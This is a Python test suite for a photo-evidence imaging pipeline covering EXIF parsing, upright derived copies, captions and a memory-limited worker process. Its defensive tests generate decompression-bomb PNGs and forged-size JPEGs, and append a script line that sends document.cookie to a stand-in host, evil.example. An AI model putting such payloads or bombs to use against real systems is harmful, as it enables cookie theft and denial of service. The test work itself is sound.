"""server/evidence/imaging/ and worker.py: real photos against exiftool's reference
values (tests.conftest.PHOTOS, see its README.md), hostile files generated here, and the
child process's limits (timeout, memory)."""

from __future__ import annotations

import io
import json
import os
import re
import struct
import subprocess
import sys
import zlib
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from PIL import Image, ImageChops, ImageOps, ImageStat

from server.evidence import fonts, imaging, worker
from server.evidence.imaging import (
    Caption,
    ExifInfo,
    ImageRefused,
    Processed,
    caption_lines,
    process_photo,
    read_exif,
    sniff_format,
)
from server.evidence.imaging.pixels import _to_srgb
from server.evidence.worker import process_in_subprocess
from tests.conftest import PHOTOS

MAX_PIXELS = 50_000_000
MiB = 1024 * 1024

pytestmark = pytest.mark.skipif(not PHOTOS.is_dir(), reason=f"fixture photos not at {PHOTOS}")

CAPTION = Caption(
    captured_at=datetime(2026, 11, 20, 1, 15, tzinfo=UTC),
    lat=26.4532,
    lon=106.9768,
    accuracy_m=8.4,
    site_name="都匀市三号楼工地",
    plan_code="P-2026-031",
    inspector_name="张三",
    sha256="3f2a9c0d1e4b" + "0" * 52,
)


# --- the fixture README's reference table


def _reference() -> dict[str, dict]:
    """file -> lat, lon, taken (naive), orientation, size, from README.md's table."""
    rows = {}
    for line in (PHOTOS / "README.md").read_text().splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split("|")]
        if len(cells) < 6 or not re.search(r"\.(jpe?g|heic)$", cells[0], re.I):
            continue
        name, lat, lon, taken, orientation, size = cells[:6]
        rows[name] = {
            "lat": None if lat == "-" else float(lat),
            "lon": None if lon == "-" else float(lon),
            "taken": taken,
            "orientation": None if orientation == "-" else int(orientation),
            "size": tuple(int(v) for v in size.split()),
        }
    return rows


REFERENCE = _reference()
ALL_PHOTOS = sorted(REFERENCE)


def test_reference_table_was_read():
    assert len(REFERENCE) == 15
    assert {p.name for p in PHOTOS.iterdir() if p.suffix != ".md"} == set(REFERENCE)


@pytest.fixture(scope="module")
def processed(tmp_path_factory) -> dict[str, tuple[Processed, Path]]:
    """Every fixture photo through process_photo once (in this process)."""
    results = {}
    for name in ALL_PHOTOS:
        out = tmp_path_factory.mktemp("out")
        results[name] = (process_photo(PHOTOS / name, out, CAPTION, MAX_PIXELS), out)
    return results


def _shrink(path: Path, size=(32, 24)) -> Image.Image:
    with Image.open(path) as im:
        return im.convert("L").resize(size, Image.Resampling.BOX)


def _difference(a: Image.Image, b: Image.Image) -> float:
    """Mean absolute difference of two small grey images, tone curves evened out (the
    copies are converted to sRGB from the originals' ICC profiles, raw pixels are not)."""
    a, b = ImageOps.equalize(a), ImageOps.equalize(b)
    return ImageStat.Stat(ImageChops.difference(a, b)).mean[0]


# --- EXIF against exiftool


@pytest.mark.parametrize("name", ALL_PHOTOS)
def test_exif_matches_exiftool(name):
    ref = REFERENCE[name]
    exif = read_exif(PHOTOS / name)
    if ref["lat"] is None:
        assert exif.lat is None and exif.lon is None
    else:
        assert exif.lat == pytest.approx(ref["lat"], abs=1e-6)
        assert exif.lon == pytest.approx(ref["lon"], abs=1e-6)
    if ref["taken"] == "-":
        assert exif.taken_at is None
    else:
        local = ref["taken"].rstrip("Z")
        assert exif.taken_at.strftime("%Y:%m:%d %H:%M:%S") == local
        if ref["taken"].endswith("Z"):  # exiftool's "Z": from the XMP, UTC
            assert exif.taken_at.utcoffset() == timedelta(0)
    assert exif.orientation == ref["orientation"]


def test_exif_details_of_real_cameras():
    heic = read_exif(PHOTOS / "heic_mobile_iphone_13_pro_max.HEIC")
    assert (heic.make, heic.model) == ("Apple", "iPhone 13 Pro Max")
    # OffsetTimeOriginal +01:00: aware
    assert heic.taken_at == datetime(2022, 2, 16, 12, 55, 41, tzinfo=timezone(timedelta(hours=1)))
    nikon = read_exif(PHOTOS / "jpg_gps_DSCN0010.jpg")
    assert (nikon.make, nikon.model) == ("NIKON", "COOLPIX P6000")
    assert nikon.taken_at.tzinfo is None  # no offset recorded: naive camera time
    assert nikon.altitude is None  # GPSAltitudeRef without GPSAltitude
    # The "type error" file's EXIF pointer is unusable: time from the XMP, nothing else.
    broken = read_exif(PHOTOS / "jpg_tests_30-type_error.jpg")
    assert broken.make is None and broken.lat is None
    assert read_exif(PHOTOS / "jpg_tests_36-memory_error.jpg").model == "EX-M2"


def test_the_trace_is_a_few_hundred_metres():
    from geopy.distance import geodesic

    points = [read_exif(PHOTOS / f"jpg_gps_DSCN00{n}.jpg") for n in (10, 21, 27)]
    pairs = zip(points, points[1:], strict=False)
    legs = [geodesic((a.lat, a.lon), (b.lat, b.lon)).m for a, b in pairs]
    assert all(10 < leg < 1000 for leg in legs)


# A hand-made TIFF/EXIF block, for what Pillow would refuse to write.
ASCII, SHORT, LONG, RATIONAL, BYTE = 2, 3, 4, 5, 1


def _ifd_bytes(entries, start: int) -> bytes:
    """One little-endian IFD at offset `start`, its out-of-line values after it."""
    table, data = b"", b""
    data_at = start + 2 + 12 * len(entries) + 4
    for tag, kind, count, value in sorted(entries, key=lambda e: e[0]):
        if len(value) <= 4:
            table += struct.pack("<HHI", tag, kind, count) + value.ljust(4, b"\x00")
        else:
            table += struct.pack("<HHII", tag, kind, count, data_at + len(data))
            data += value + (b"\x00" if len(value) % 2 else b"")
    return struct.pack("<H", len(entries)) + table + b"\x00\x00\x00\x00" + data


def _exif_block(ifd0=(), exif_ifd=(), gps=()) -> bytes:
    ifd0 = list(ifd0)
    # Place the sub-IFDs after IFD0 (sizes known once IFD0 is laid out with pointers).
    pointers = [(0x8769, exif_ifd), (0x8825, gps)]
    entries = ifd0 + [(tag, LONG, 1, b"\x00\x00\x00\x00") for tag, _ in pointers]
    offset = 8 + len(_ifd_bytes(entries, 8))
    fixed = list(ifd0)
    blobs = b""
    for tag, sub in pointers:
        blob = _ifd_bytes(list(sub), offset + len(blobs))
        fixed.append((tag, LONG, 1, struct.pack("<I", offset + len(blobs))))
        blobs += blob
    return b"Exif\x00\x00" + b"II*\x00\x08\x00\x00\x00" + _ifd_bytes(fixed, 8) + blobs


def _rationals(*pairs) -> bytes:
    return b"".join(struct.pack("<II", n, d) for n, d in pairs)


def _ascii(text: str) -> tuple[int, bytes]:
    raw = text.encode() + b"\x00"
    return len(raw), raw


def _jpeg_with_exif(path: Path, block: bytes, size=(64, 48)) -> Path:
    Image.new("RGB", size, (90, 120, 150)).save(path, "JPEG", exif=block)
    return path


def test_exif_south_west_offset_and_altitude(tmp_path):
    block = _exif_block(
        ifd0=[(0x010F, ASCII, *_ascii("Huawei")), (0x0112, SHORT, 1, struct.pack("<H", 6))],
        exif_ifd=[
            (0x9003, ASCII, *_ascii("2026:11:20 09:15:00")),
            (0x9011, ASCII, *_ascii("-03:30")),
        ],
        gps=[
            (1, ASCII, 2, b"S\x00"),
            (2, RATIONAL, 3, _rationals((33, 1), (52, 1), (3012, 100))),
            (3, ASCII, 2, b"W\x00"),
            (4, RATIONAL, 3, _rationals((151, 1), (12, 1), (0, 0))),  # 0/0 seconds
            (5, BYTE, 1, b"\x01"),  # below sea level
            (6, RATIONAL, 1, _rationals((125, 10))),
        ],
    )
    exif = read_exif(_jpeg_with_exif(tmp_path / "sw.jpg", block))
    assert exif.lat == pytest.approx(-(33 + 52 / 60 + 30.12 / 3600), abs=1e-9)
    assert exif.lon == pytest.approx(-(151 + 12 / 60), abs=1e-9)
    assert exif.altitude == pytest.approx(-12.5)
    assert exif.taken_at == datetime(
        2026, 11, 20, 9, 15, tzinfo=timezone(-timedelta(hours=3, minutes=30))
    )
    assert (exif.make, exif.orientation) == ("Huawei", 6)


def test_each_broken_exif_field_is_ignored_on_its_own(tmp_path):
    block = _exif_block(
        ifd0=[(0x0110, ASCII, *_ascii("Mate 60")), (0x0112, SHORT, 1, struct.pack("<H", 42))],
        exif_ifd=[
            (0x9003, ASCII, *_ascii("0000:00:00 00:00:00")),
            (0x9011, ASCII, *_ascii("+99:99")),
        ],
        gps=[
            (1, ASCII, 2, b"X\x00"),  # no such reference: latitude unusable
            (2, RATIONAL, 3, _rationals((26, 1), (27, 1), (0, 1))),
            (3, ASCII, 2, b"E\x00"),
            (4, RATIONAL, 3, _rationals((106, 1), (58, 1), (0, 1))),
            (6, RATIONAL, 1, _rationals((7, 0))),  # n/0: no altitude
        ],
    )
    exif = read_exif(_jpeg_with_exif(tmp_path / "broken.jpg", block))
    assert exif == ExifInfo(model="Mate 60")  # everything else unusable, nothing fatal

    good_time = _exif_block(
        exif_ifd=[(0x9003, ASCII, *_ascii("2026:11:20 09:15:00")), (0x9011, ASCII, 3, b"xy\x00")],
        gps=[(2, ASCII, 4, b"abc\x00"), (4, RATIONAL, 3, _rationals((1, 1), (2, 1), (3, 1)))],
    )
    exif = read_exif(_jpeg_with_exif(tmp_path / "half.jpg", good_time))
    assert exif.taken_at == datetime(2026, 11, 20, 9, 15)  # bad offset: naive, still read
    assert exif.lat is None and exif.lon is None


def test_read_exif_of_non_images_is_empty(tmp_path):
    text = tmp_path / "notes.jpg"
    text.write_text("not a photo")
    assert read_exif(text) == ExifInfo()


# --- derived copies


@pytest.mark.parametrize("name", ALL_PHOTOS)
def test_every_fixture_processes(processed, name):
    result, out = processed[name]
    ref = REFERENCE[name]
    stored = ref["size"]
    # exiftool's size is the stored one; upright swaps it for orientations 5-8 (HEIF: the
    # container's rotation, here irot 270 = EXIF 6).
    swapped = (ref["orientation"] or 1) >= 5
    assert (result.width, result.height) == (stored[::-1] if swapped else stored)
    assert result.format == ("HEIF" if name.endswith(".HEIC") else "JPEG")
    longest = max(stored)
    # JPEG display copies may be DCT-scaled to 1920-2048 px (e.g. 3872 -> 1936).
    display_min = min(longest, 1920 if result.format == "JPEG" else 2048)
    for kind, low, high in (("thumbnail", min(longest, 400), 400), ("display", display_min, 2048)):
        with Image.open(out / getattr(result, kind)) as im:
            assert im.format == "JPEG"
            assert low <= max(im.size) <= high, im.size
            # upright: same aspect as the upright original
            assert (im.width >= im.height) == (result.width >= result.height)
    assert not list(out.glob(".*"))  # no partial files left


@pytest.mark.parametrize("kind", ["thumbnail", "display", "evidence", "public"])
def test_derived_copies_carry_no_metadata(processed, kind):
    for name in ("jpg_gps_DSCN0010.jpg", "heic_mobile_iphone_13_pro_max.HEIC"):
        result, out = processed[name]
        path = out / getattr(result, kind)
        with Image.open(path) as im:
            assert not im.getexif()
            assert not {"exif", "xmp", "icc_profile", "comment", "photoshop"} & set(im.info)
        data = path.read_bytes()
        assert b"Exif\x00\x00" not in data and b"http://ns.adobe.com/xap" not in data
        assert b"NIKON" not in data and b"Apple" not in data


def test_orientation_set_is_upright(processed):
    """landscape_1/3/6/8 show the same upright picture (6 and 8 are stored sideways);
    portrait_5 (transpose) is upright portrait."""
    upright = {}
    for n in (1, 3, 6, 8):
        result, out = processed[f"jpg_orientation_landscape_{n}.jpg"]
        assert (result.width, result.height) == (600, 450)
        upright[n] = _shrink(out / result.display)
    for n in (3, 6, 8):
        assert _difference(upright[1], upright[n]) < 60, n  # other JPEG, other digit
    # The test can fail: the stored (not upright) pixels of 6 and 3 differ from 1.
    with Image.open(PHOTOS / "jpg_orientation_landscape_6.jpg") as raw:
        sideways = raw.convert("L").rotate(90, expand=True).resize((32, 24), Image.Resampling.BOX)
    with Image.open(PHOTOS / "jpg_orientation_landscape_3.jpg") as raw:
        upside_down = raw.convert("L").resize((32, 24), Image.Resampling.BOX)
    assert _difference(upright[1], sideways) > 80
    assert _difference(upright[1], upside_down) > 80

    result, out = processed["jpg_orientation_portrait_5.jpg"]
    assert (result.width, result.height) == (450, 600)
    with Image.open(PHOTOS / "jpg_orientation_portrait_5.jpg") as raw:
        gray = raw.convert("L")
        right = gray.transpose(Image.Transpose.TRANSPOSE).resize((24, 32), Image.Resampling.BOX)
        wrong = gray.transpose(Image.Transpose.ROTATE_270).resize((24, 32), Image.Resampling.BOX)
    shown = _shrink(out / result.display, (24, 32))
    assert _difference(shown, right) < 15 and _difference(shown, wrong) > 30


def test_heic_is_upright(processed):
    """The iPhone HEIC: 4032x3024 in the container with irot (EXIF orientation 6);
    pillow-heif rotates when decoding, so the output is a 3024x4032 portrait, not rotated
    twice. Content: the blue tablecloth is along the bottom edge of the upright kitchen."""
    result, out = processed["heic_mobile_iphone_13_pro_max.HEIC"]
    assert (result.width, result.height) == (3024, 4032)
    assert result.exif.orientation == 6
    with Image.open(out / result.display) as im:
        assert im.size == (1536, 2048)
        w, h = im.size
        bands = {
            "top": (0, 0, w, h // 4),
            "bottom": (0, 3 * h // 4, w, h),
            "left": (0, 0, w // 4, h),
            "right": (3 * w // 4, 0, w, h),
        }
        blue = {}
        for edge, box in bands.items():
            r, _, b = ImageStat.Stat(im.crop(box)).mean
            blue[edge] = b - r
    others = [v for edge, v in blue.items() if edge != "bottom"]
    assert blue["bottom"] > max(others) + 8, blue


def test_evidence_and_public_copies(processed):
    result, out = processed["jpg_gps_DSCN0010.jpg"]
    assert (out / result.public).read_bytes() == (out / result.display).read_bytes()
    with Image.open(out / result.display) as display, Image.open(out / result.evidence) as ev:
        assert ev.width == display.width == 640
        assert ev.height > display.height + 60  # the caption band below the picture
        top = ev.crop((0, 0, display.width, display.height)).convert("L")
        top = top.resize((32, 24), Image.Resampling.BOX)
        assert _difference(top, _shrink(out / result.display)) < 4  # picture intact
        band = ev.crop((0, display.height, ev.width, ev.height)).convert("L")
        assert ImageStat.Stat(band).extrema[0][1] > 200  # white text drawn on it
    # A tiny photo still gets a legible, full-width caption.
    small, out = processed["jpg_invalid_image01137.jpg"]
    with Image.open(out / small.evidence) as ev:
        assert ev.width == imaging.EVIDENCE_MIN_WIDTH


def test_caption_text():
    lines = caption_lines(CAPTION, cjk=True)
    assert lines[0] == "拍摄时间 2026-11-20 09:15:00 (北京时间)"
    assert lines[1] == "位置 26.453200, 106.976800 (±8 米)"
    assert "都匀市三号楼工地" in lines[2]
    assert "P-2026-031" in lines[3] and "张三" in lines[3]
    assert lines[4] == "SHA-256 3f2a9c0d1e4b"
    ascii_lines = caption_lines(CAPTION, cjk=False)
    assert all(line.isascii() for line in ascii_lines)
    text = "\n".join(ascii_lines)
    for part in ("2026-11-20 09:15:00", "26.453200, 106.976800", "P-2026-031", "3f2a9c0d1e4b"):
        assert part in text
    assert "Site/inspector: see record" in text
    no_fix = Caption(**{**CAPTION.__dict__, "lat": None, "lon": None, "accuracy_m": None})
    assert caption_lines(no_fix, cjk=True)[1] == "位置 无定位"


def test_cjk_font_is_found_and_draws_chinese():
    choice = fonts.cjk_font()
    if choice is None:
        pytest.skip("no CJK font installed (Debian: apt-get install fonts-noto-cjk)")
    assert "CJK SC" in choice.name or "WenQuanYi" in choice.name or "Droid" in choice.name
    font = fonts.load(choice, 24)
    assert fonts._draws(font, "拍摄时间北京检查人员")
    assert fonts.printable(choice, "点位 \U0002a6a5") == "点位 ?"  # no tofu


FONT_PEAK = """
import json, re, sys
from server.evidence import fonts
def peak():
    return int(re.search(r"VmPeak:\\s+(\\d+)", open("/proc/self/status").read())[1]) * 1024
before = peak()
choice = fonts.cjk_font()
print(json.dumps({"path": choice and choice.path, "growth": peak() - before}))
"""


def test_choosing_the_cjk_font_maps_one_face_at_a_time():
    """The photo worker runs under RLIMIT_AS: looking through a 10-face .ttc with every face
    open at once mapped the file ten times (214 MiB of address space for Noto CJK), and
    small photos were refused as too_much_memory under a 200 MB limit now and then."""
    out = subprocess.run(
        [sys.executable, "-c", FONT_PEAK], capture_output=True, text=True, check=True
    ).stdout
    found = json.loads(out)
    if found["path"] is None:
        pytest.skip("no CJK font installed (Debian: apt-get install fonts-noto-cjk)")
    assert found["growth"] < 2 * os.path.getsize(found["path"]) + 8 * MiB, found


def test_ascii_fallback_without_cjk_font(monkeypatch, tmp_path):
    monkeypatch.setattr(fonts, "cjk_font", lambda: None)
    with Image.open(PHOTOS / "jpg_gps_DSCN0010.jpg") as im:
        display = im.convert("RGB")
    evidence = imaging.render_evidence(display, CAPTION)
    band = evidence.crop((0, display.height, evidence.width, evidence.height)).convert("L")
    assert ImageStat.Stat(band).extrema[0][1] > 200


def test_naive_capture_time_is_a_programming_error(tmp_path):
    naive = Caption(**{**CAPTION.__dict__, "captured_at": datetime(2026, 11, 20, 9, 15)})
    with pytest.raises(ValueError):
        process_photo(PHOTOS / "jpg_Canon_40D.jpg", tmp_path, naive)
    with pytest.raises(ValueError):
        process_in_subprocess(PHOTOS / "jpg_Canon_40D.jpg", tmp_path, naive, max_pixels=10**6)


# --- hostile and odd files


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, depth: int, color: int, rows) -> bytes:
    z = zlib.compressobj(9)
    idat = b"".join(z.compress(row) for row in rows) + z.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def _big_rgb_png(path: Path, side: int = 7000) -> Path:
    """A legit 49 MP RGB PNG (under the pixel limit), written row by row: the test
    process never holds the picture. Decoding it needs ~200 MB in Pillow."""
    base = bytes((x * 7 + x // 300) & 255 for x in range(3 * side + 256))
    rows = (b"\x00" + base[i % 256 : i % 256 + 3 * side] for i in range(side))
    z = zlib.compressobj(1)
    idat = b"".join(z.compress(row) for row in rows) + z.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )
    return path


def _jpeg_claiming(width: int, height: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, "JPEG")
    data = bytearray(buffer.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> dict[str, tuple[Path, str]]:
    """name -> (file, the code it must be refused with)."""
    d = tmp_path_factory.mktemp("hostile")
    jpeg = (PHOTOS / "jpg_gps_DSCN0010.jpg").read_bytes()
    files = {
        "truncated.jpg": (jpeg[: len(jpeg) // 2], "corrupt"),
        "claims_30000.png": (
            _png(30000, 30000, 8, 2, [b"\x00" * 16]),
            "decompression_bomb",
        ),
        "claims_30000.jpg": (_jpeg_claiming(30000, 30000), "decompression_bomb"),
        "text.jpg": (b"#!/bin/sh\necho this is not a photo\n", "unsupported_format"),
        "empty.jpg": (b"", "empty"),
        # 20000x20000 1-bit: 400 MP in ~50 kB of zlib
        "bomb.png": (
            _png(20000, 20000, 1, 0, (b"\x00" * 2501 for _ in range(20000))),
            "decompression_bomb",
        ),
        "gif_named.png": (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "unsupported_format"),
        "garbage_after_magic.jpg": (b"\xff\xd8\xff" + os.urandom(2000), "corrupt"),
    }
    out = {}
    for name, (data, code) in files.items():
        (d / name).write_bytes(data)
        out[name] = (d / name, code)
    assert (d / "bomb.png").stat().st_size < 100_000
    return out


HOSTILE = [
    "truncated.jpg",
    "claims_30000.png",
    "claims_30000.jpg",
    "text.jpg",
    "empty.jpg",
    "bomb.png",
    "gif_named.png",
    "garbage_after_magic.jpg",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_in_process(hostile, tmp_path, name):
    path, code = hostile[name]
    with pytest.raises(ImageRefused) as refused:
        process_photo(path, tmp_path, CAPTION)
    assert refused.value.code == code
    assert refused.value.message and not refused.value.message.isascii()  # Chinese
    assert not list(tmp_path.iterdir())  # nothing written


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_through_the_worker(hostile, tmp_path, name):
    path, code = hostile[name]
    with pytest.raises(ImageRefused) as refused:
        process_in_subprocess(path, tmp_path, CAPTION, max_pixels=MAX_PIXELS)
    assert refused.value.code == code


def test_sniffing_is_by_content(tmp_path):
    src = PHOTOS / "jpg_Canon_40D.jpg"
    renamed = tmp_path / "photo.png"
    renamed.write_bytes(src.read_bytes())
    assert sniff_format(renamed) == "JPEG"
    heic = tmp_path / "x.jpg"
    heic.write_bytes((PHOTOS / "heic_mobile_iphone_13_pro_max.HEIC").read_bytes()[:64])
    assert sniff_format(heic) == "HEIF"
    for fmt in ("PNG", "WEBP"):
        path = tmp_path / f"{fmt}.bin"
        Image.new("RGB", (4, 4)).save(path, fmt)
        assert sniff_format(path) == fmt
    avif = tmp_path / "a.heic"  # AVIF is HEIF-shaped but not allowed
    avif.write_bytes(b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + b"\x00" * 40)
    with pytest.raises(ImageRefused) as refused:
        sniff_format(avif)
    assert refused.value.code == "unsupported_format"


@pytest.mark.parametrize(
    ("ftyp", "fmt"),
    [
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "HEIF"),
        (b"\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00mif1heic", "HEIF"),  # generic + HEVC
        (b"\x00\x00\x00\x18ftypmsf1\x00\x00\x00\x00msf1hevc", "HEIF"),
        (b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41", None),  # MP4 video
        (b"\x00\x00\x00\x18ftypqt  \x00\x00\x02\x00qt  heic", None),  # QuickTime
        (b"\x00\x00\x00\x14ftypmif1\x00\x00\x00\x00mif1", None),  # no HEVC brand
        (b"\x00\x00\x00\x10ftypmif1\x00\x00\x00\x00heic", None),  # heic past the box
    ],
)
def test_an_ftyp_box_is_heif_only_with_a_heif_brand(tmp_path, ftyp, fmt):
    path = tmp_path / "IMG_0001.HEIC"
    path.write_bytes(ftyp + b"\x00" * 64)
    if fmt is not None:
        assert sniff_format(path) == fmt
        return
    with pytest.raises(ImageRefused) as refused:
        process_photo(path, tmp_path / "out", CAPTION, max_pixels=MAX_PIXELS)
    assert refused.value.code == "unsupported_format"
    assert refused.value.message == "文件不是受支持的图片格式(JPEG/PNG/WebP/HEIC)"


def test_script_after_jpeg_end_is_not_copied(tmp_path):
    path = tmp_path / "appended.jpg"
    path.write_bytes((PHOTOS / "jpg_gps_DSCN0010.jpg").read_bytes() + SCRIPT)
    result = process_photo(path, tmp_path / "out", CAPTION)
    assert (result.width, result.height) == (640, 480)
    for kind in ("thumbnail", "display", "evidence", "public"):
        data = (tmp_path / "out" / getattr(result, kind)).read_bytes()
        assert b"script" not in data and data.endswith(b"\xff\xd9")


def test_other_formats_and_modes(tmp_path):
    """PNG with alpha and an EXIF orientation, palette PNG, WebP with EXIF GPS."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x8825] = {1: "N", 2: (26.0, 27.0, 11.52), 3: "E", 4: (106.0, 58.0, 36.48)}
    Image.new("RGBA", (300, 200), (255, 0, 0, 0)).save(tmp_path / "a.png", exif=exif)
    Image.new("P", (120, 80), 3).save(tmp_path / "p.png")
    Image.new("RGB", (320, 240), (10, 200, 10)).save(tmp_path / "w.webp", exif=exif)
    alpha = process_photo(tmp_path / "a.png", tmp_path / "a", CAPTION)
    assert (alpha.format, alpha.width, alpha.height) == ("PNG", 200, 300)
    with Image.open(tmp_path / "a" / alpha.display) as im:
        assert im.size == (200, 300) and im.getpixel((5, 5))[0] > 240  # flattened on white
    assert process_photo(tmp_path / "p.png", tmp_path / "p", CAPTION).width == 120
    webp = process_photo(tmp_path / "w.webp", tmp_path / "w", CAPTION)
    assert (webp.format, webp.width, webp.height) == ("WEBP", 240, 320)
    assert webp.exif.lat == pytest.approx(26 + 27 / 60 + 11.52 / 3600)


def test_honest_but_too_large_photos(tmp_path):
    """Over the limit with a plausible file size: too_many_pixels, before decoding."""
    for name in ("jpg_mobile_jolla.jpg", "heic_mobile_iphone_13_pro_max.HEIC"):
        with pytest.raises(ImageRefused) as refused:
            process_photo(PHOTOS / name, tmp_path, CAPTION, max_pixels=5_000_000)
        assert refused.value.code == "too_many_pixels"
        assert "万像素" in refused.value.message
    big_webp = tmp_path / "big.webp"
    big_webp.write_bytes(
        b"RIFF\x00\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00"
        + (16000 - 1).to_bytes(3, "little")
        + (16000 - 1).to_bytes(3, "little")
    )
    with pytest.raises(ImageRefused) as refused:
        process_photo(big_webp, tmp_path, CAPTION)
    assert refused.value.code == "decompression_bomb"  # checked before libwebp's canvas


# --- the child process


def _vm_kib(field: str) -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    raise AssertionError(field)


def test_worker_returns_the_same_result(processed, tmp_path):
    for name in ("heic_mobile_iphone_13_pro_max.HEIC", "jpg_gps_DSCN0021.jpg"):
        result = process_in_subprocess(
            PHOTOS / name, tmp_path / name, CAPTION, max_pixels=MAX_PIXELS
        )
        assert result == processed[name][0]
        assert (tmp_path / name / result.evidence).stat().st_size > 0


def test_parent_memory_stays_flat(hostile, tmp_path):
    """Decoding happens in the child: the parent's peak RSS (VmHWM, reset first) does
    not grow by the ~200 MB a 49 MP photo needs, nor by a bomb's 400 MB."""
    big = _big_rgb_png(tmp_path / "big.png")
    try:
        Path("/proc/self/clear_refs").write_text("5")  # reset VmHWM to the current RSS
    except OSError:
        pytest.skip("cannot reset VmHWM here")
    before = _vm_kib("VmHWM")
    result = process_in_subprocess(big, tmp_path / "out", CAPTION, max_pixels=MAX_PIXELS)
    assert (result.width, result.height) == (7000, 7000)
    for name in ("bomb.png", "claims_30000.png", "truncated.jpg"):
        with pytest.raises(ImageRefused):
            process_in_subprocess(hostile[name][0], tmp_path, CAPTION, max_pixels=MAX_PIXELS)
    # With max_pixels raised, the bomb is decoded (in the child, under its rlimit).
    try:
        process_in_subprocess(hostile["bomb.png"][0], tmp_path / "b", CAPTION, max_pixels=10**9)
    except ImageRefused as refused:
        assert refused.code == "too_much_memory"
    growth = (_vm_kib("VmHWM") - before) * 1024
    assert growth < 40 * MiB, growth


def test_memory_limit(tmp_path):
    """RLIMIT_AS of 200 MB: a small photo is fine, a legit 49 MP PNG (Pillow needs ~350 MB
    for it) is refused as too_much_memory (Pillow raises MemoryError in the child)."""
    limit = 200 * MiB
    small = process_in_subprocess(
        PHOTOS / "jpg_gps_DSCN0010.jpg",
        tmp_path / "s",
        CAPTION,
        max_pixels=MAX_PIXELS,
        memory_bytes=limit,
    )
    assert small.width == 640
    big = _big_rgb_png(tmp_path / "big.png")
    with pytest.raises(ImageRefused) as refused:
        process_in_subprocess(
            big, tmp_path / "b", CAPTION, max_pixels=MAX_PIXELS, memory_bytes=limit
        )
    assert refused.value.code == "too_much_memory"
    assert not list((tmp_path / "b").glob(".*.partial"))


def test_timeout_kills_the_child(monkeypatch, tmp_path):
    """The real worker command, made to sleep first (and to record its pid)."""
    pid_file = tmp_path / "pid"
    real = worker._child_command

    def sleepy(memory_bytes):
        command = real(memory_bytes)
        at = command.index("-c") + 1
        command[at] = (
            f"import os, time\nopen({str(pid_file)!r}, 'w').write(str(os.getpid()))\n"
            "time.sleep(30)\n" + command[at]
        )
        return command

    monkeypatch.setattr(worker, "_child_command", sleepy)
    with pytest.raises(ImageRefused) as refused:
        process_in_subprocess(
            PHOTOS / "jpg_Canon_40D.jpg",
            tmp_path / "o",
            CAPTION,
            max_pixels=MAX_PIXELS,
            timeout_s=1.5,
        )
    assert refused.value.code == "timeout"
    pid = int(pid_file.read_text())
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)  # killed and reaped


def test_a_crashing_child_is_worker_failed(monkeypatch, tmp_path):
    def crash(memory_bytes):
        return [sys.executable, "-c", "import os, signal; os.kill(os.getpid(), signal.SIGSEGV)"]

    monkeypatch.setattr(worker, "_child_command", crash)
    with pytest.raises(ImageRefused) as refused:
        process_in_subprocess(PHOTOS / "jpg_Canon_40D.jpg", tmp_path, CAPTION, max_pixels=10**6)
    assert refused.value.code == "worker_failed"
    assert "SIGSEGV" in refused.value.reason


def test_child_does_not_import_flask(tmp_path):
    """The child runs with server/__init__.py (Flask, SQLAlchemy) not imported."""
    import subprocess

    probe = "import json, sys; print(json.dumps(sorted(m for m in sys.modules if "
    probe += "m.split('.')[0] in ('flask', 'sqlalchemy', 'server'))))"
    command = worker._child_command(0)
    code = command[command.index("-c") + 1].replace(
        "from server.evidence.worker import _child_main\nsys.exit(_child_main())",
        "import server.evidence.worker\n" + probe,
    )
    command[command.index("-c") + 1] = code
    out = subprocess.run(command, capture_output=True, text=True, check=True).stdout
    modules = json.loads(out)
    assert "server.evidence.imaging" in modules
    assert not [m for m in modules if m.startswith(("flask", "sqlalchemy"))]


def test_colours_are_converted_to_srgb():
    """The copies carry no ICC profile, so a Display P3 photo is converted to sRGB first
    (the same red is more saturated in sRGB numbers); without a profile nothing changes."""
    with Image.open(PHOTOS / "heic_mobile_iphone_13_pro_max.HEIC") as heic:
        p3 = heic.info["icc_profile"]
    red = Image.new("RGB", (4, 4), (200, 50, 50))
    r, g, b = _to_srgb(red, p3).getpixel((0, 0))
    assert r > 205 and g < 40
    assert _to_srgb(red, None) is red
